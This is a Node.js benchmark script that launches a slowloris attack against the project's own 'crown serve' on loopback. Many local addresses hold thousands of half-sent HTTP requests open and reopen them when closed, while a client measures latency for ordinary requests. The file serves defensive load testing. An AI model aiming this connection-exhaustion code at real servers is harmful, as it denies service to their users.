// slowloris.mjs - the slow-head attack at full scale against `crown serve` on loopback:
// ADDRS client addresses (127.0.1.1, 127.0.1.2, ...) each open up to CONNS connections
// that send `GET /api/games HTTP/1.1\r\nHost: ` and nothing more, reopening any the
// server closes, for SECONDS; meanwhile an honest client (127.0.0.1) asks GET /api/games
// every 100 ms. Prints the honest requests' latency (p50, p99, max) and how many got no
// answer within 5 s, with the load average beside it.
//   node bench/slowloris.mjs [ADDRS] [CONNS] [SECONDS] [-- extra crown serve args]
// (CROWN_BIN, default build/release/crown; needs `ulimit -n` above ADDRS x CONNS.)
import { spawn } from 'node:child_process';
import net from 'node:net';
import { loadavg } from 'node:os';
import { fileURLToPath } from 'node:url';
import { request, startServer } from '../tests/web/server.mjs';

// The attacker runs in a process of its own (`--attack PORT ADDRS CONNS`), so that the
// honest client's timings are the server's, not a shared event loop's.
if (process.argv[2] === '--attack') {
  const [port, addrs, conns] = process.argv.slice(3).map(Number);
  let opened = 0;
  const attack = (from) => {
    const sock = net.connect({ port, host: '127.0.0.1', localAddress: from });
    opened++;
    sock.on('connect', () => sock.write('GET /api/games HTTP/1.1\r\nHost: '));
    sock.on('error', () => {});
    sock.on('data', () => {});
    // The attacker reconnects whatever the server closes, after a breath.
    sock.on('close', () => setTimeout(() => attack(from), 50));
  };
  for (let a = 0; a < addrs; a++)
    for (let c = 0; c < conns; c++) attack(`127.0.1.${a + 1}`);
  process.on('SIGTERM', () => { console.log(String(opened)); process.exit(0); });
  await new Promise(() => {});
}

const dash = process.argv.indexOf('--');
const pos = dash < 0 ? process.argv.slice(2) : process.argv.slice(2, dash);
const extra = dash < 0 ? [] : process.argv.slice(dash + 1);
const ADDRS = Number(pos[0] || 64);
const CONNS = Number(pos[1] || 256);
const SECONDS = Number(pos[2] || 30);
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

const srv = await startServer({ args: extra });
const u = new URL(srv.url);
const attacker = spawn(process.execPath, [fileURLToPath(import.meta.url), '--attack', u.port, String(ADDRS), String(CONNS)], { stdio: ['ignore', 'pipe', 'inherit'] });
let opened = '';
attacker.stdout.on('data', (d) => { opened += d; });
await sleep(3000); // the attack under way

const lat = [];
let unanswered = 0;
const end = Date.now() + SECONDS * 1000;
const loads = [];
while (Date.now() < end) {
  const t0 = Date.now();
  const r = await Promise.race([request(srv, 'GET', '/api/games').catch(() => null), sleep(5000).then(() => null)]);
  if (r && r.status === 200) lat.push(Date.now() - t0);
  else unanswered++;
  loads.push(loadavg()[0]);
  await sleep(100);
}
attacker.kill('SIGTERM');
await new Promise((r) => attacker.on('exit', r));
const { code } = await srv.stop();
lat.sort((a, b) => a - b);
const q = (p) => (lat.length ? lat[Math.min(lat.length - 1, Math.floor(p * lat.length))] : NaN);
console.log(`slowloris: ${ADDRS} addresses x ${CONNS} connections for ${SECONDS} s (${opened.trim()} connections opened); crown serve ${extra.join(' ') || '(defaults)'}`);
console.log(`honest GET /api/games: ${lat.length} answered, ${unanswered} not within 5 s; p50 ${q(0.5)} ms, p99 ${q(0.99)} ms, max ${lat.at(-1)} ms`);
console.log(`load average during the run: ${Math.min(...loads).toFixed(1)} - ${Math.max(...loads).toFixed(1)}; server exit ${code}`);
process.exit(unanswered === 0 && code === 0 ? 0 : 1);
